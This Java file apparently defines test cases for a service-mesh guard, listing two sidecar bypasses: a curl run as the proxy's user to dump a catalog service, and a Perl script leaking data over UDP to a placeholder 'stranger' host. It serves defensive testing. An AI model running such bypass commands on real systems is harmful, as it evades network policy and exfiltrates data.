package io.kith.load.mesh;

import java.util.List;
import java.util.Map;

/**
 * What an intruder does to reach somebody past the sidecar, and what Kith's guard calls it.
 *
 * @param name short, for tables
 * @param story one sentence for people
 * @param reason word of the guard's reason
 * @param process the process that is refused, in words
 * @param uid user and group that it runs as
 * @param argv what runs; {@code CATALOG} and {@code STRANGER} stand for addresses, the same with
 *     {@code _PORT} for ports
 * @param target whom nothing must reach
 */
public record Bypass(
    String name,
    String story,
    String reason,
    String process,
    int uid,
    List<String> argv,
    Target target) {
  /** Whom it is aimed at. */
  public enum Target {
    /** The catalog, over TCP. */
    CATALOG,
    /** The stranger, over UDP. */
    STRANGER
  }

  public Bypass {
    argv = List.copyOf(argv);
  }

  /** All there are, in the order in which they are shown. */
  public static final List<Bypass> ALL =
      List.of(
          new Bypass(
              "the sidecar's user",
              "a curl takes the sidecar's user, whose connections are never redirected",
              "proxy_user",
              "/usr/bin/curl",
              1337,
              List.of(
                  "/usr/bin/curl", "-sSv", "--max-time", "5", "http://CATALOG:CATALOG_PORT/dump"),
              Target.CATALOG),
          new Bypass(
              "a datagram",
              "a script sends the orders over UDP, which no sidecar sees",
              "udp",
              "/usr/bin/perl /tmp/leak.pl",
              1000,
              List.of("/usr/bin/perl", "/tmp/leak.pl", "STRANGER", "STRANGER_PORT"),
              Target.STRANGER));

  List<String> argv(Map<String, Attack.Place> places) {
    return argv.stream().map(argument -> Attack.Place.in(argument, places)).toList();
  }
}
